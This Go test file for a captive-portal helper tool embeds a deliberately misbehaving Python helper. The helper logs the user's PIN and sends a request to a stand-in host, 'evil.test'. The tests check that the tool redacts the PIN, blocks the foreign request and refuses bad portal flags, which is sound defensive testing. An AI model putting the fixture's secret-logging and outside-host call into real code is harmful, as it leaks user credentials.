package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"hotspot-helper/internal/confine/confinetest"
	"hotspot-helper/internal/file/filetest"
	"hotspot-helper/portal/portaltest"
)

// acme is a live helper that makes some mistakes before it logs in.
const acme = `#!/usr/bin/python3
import json, sys
I = "org.hotspothelper.Live1."
def send(m): print(json.dumps(m), flush=True)
def exchange(**p):
    send({"method": I + "Exchange", "parameters": p})
    return json.loads(sys.stdin.readline())["parameters"]
for line in sys.stdin:
    call = json.loads(line)
    method, p = call["method"].removeprefix(I), call.get("parameters")
    if method == "Describe": send({"parameters": {"name": "acme", "version": "1.0.0", "label": "Acme", "hosts": ["login.acme.test"], "inputs": [{"name": "pin", "prompt": "PIN", "secret": True}], "secret_fields": ["resp"]}})
    elif method == "Claim":
        if "crash" in sys.argv: sys.exit("no claim")
        send({"parameters": {"claims": [{"confidence": "high"}]}})
    elif method == "Authenticate":
        print("the PIN is", p["inputs"]["pin"], file=sys.stderr)
        exchange(url="http://evil.test/a?key=hidden", step="evil")
        exchange(url="/login", json={"resp": p["inputs"]["pin"][::-1]}, uri="x", step="login")
        send({"parameters": {"result": {"outcome": "submitted", "expires_in": 60}}})
    else: send({"error": "org.varlink.service.MethodNotFound", "parameters": {"method": call["method"]}})
`

// TestPackRunOfALiveHelper tries a program on a portal that its author wrote, from the manual alone.
func TestPackRunOfALiveHelper(t *testing.T) {
	t.Parallel()
	filetest.NeedsPrograms(t, "/usr/bin/python3")
	confinetest.Needs(t)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if body, _ := io.ReadAll(r.Body); r.URL.Path == "/login" && strings.Contains(string(body), "8281828172") {
			w.Header().Set(portaltest.AccessHeader, portaltest.AccessGranted)
		}
		_, _ = io.WriteString(w, "hello")
	}))
	defer server.Close()
	own := portalOptions{url: "https://login.acme.test/portal?mac=02-00-5e-00-53-01", server: server.Listener.Addr().String()}
	address, _ := simulateWith(t, own)
	home := t.TempDir()
	register := func(args string) string {
		path := filepath.Join(home, "acme.toml")
		if err := os.WriteFile(path, []byte("api = 1\nexec = \"acme.py\"\n"+args+"[[network]]\nconfidence = \"high\"\nportal_host = [\"login.acme.test\"]\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	filetest.WriteProgram(t, filepath.Join(home, "acme.py"), []byte(acme))
	code, printed := runAgainst(t, home, "2718281828", register(""), "--against", address, "--secret", "pin")
	if code != exitOK {
		t.Errorf("exit %d", code)
	}
	for _, want := range []string{
		"\nauthenticate\n", "  helper says: the PIN is [redacted]\n", "step evil\n", "  exchange failed: evil: http://evil.test/a?key=…: ", "talk to host",
		"warning: Exchange: it has a member \"uri\"", "warning: authenticate: it has a member \"result.expires_in\"",
	} {
		if !strings.Contains(printed, want) {
			t.Errorf("does not say %q", want)
		}
	}
	if strings.Contains(printed, "2718281828") || strings.Contains(printed, "hidden") || strings.Contains(printed, "authenticate.toml") || t.Failed() {
		t.Error(printed)
	}
	code, printed = runAgainst(t, home, "2718281828", register("args = [\"crash\"]\n"), "--against", address, "--secret", "pin")
	if code != exitNobody || !strings.Contains(printed, "exit code 1: no claim") || !strings.Contains(printed, "docs/live-helpers.md") || strings.Contains(printed, "--evidence") {
		t.Errorf("exit %d, %s", code, printed)
	}
}

// TestOwnPortalIsRefused refuses flags that name no portal of one's own.
func TestOwnPortalIsRefused(t *testing.T) {
	t.Parallel()
	for want, o := range map[string]portalOptions{
		"or --portal-url and --portal-server": {url: "http://login.acme.test/"},
		"want --portal, or":                   {url: "http://login.acme.test/", server: "127.0.0.1:80", kind: "click"},
		"want a whole URL":                    {url: "login.acme.test", server: "127.0.0.1:80"},
		"no portal is at 127.0.0.1":           {url: "http://127.0.0.1:8080/", server: "127.0.0.1:8080"},
		"want a loopback address":             {url: "http://login.acme.test/", server: "192.0.2.1:80"},
	} {
		if own, err := o.own(); err == nil || own != nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%+v: %v, want %s", o, err, want)
		}
	}
}
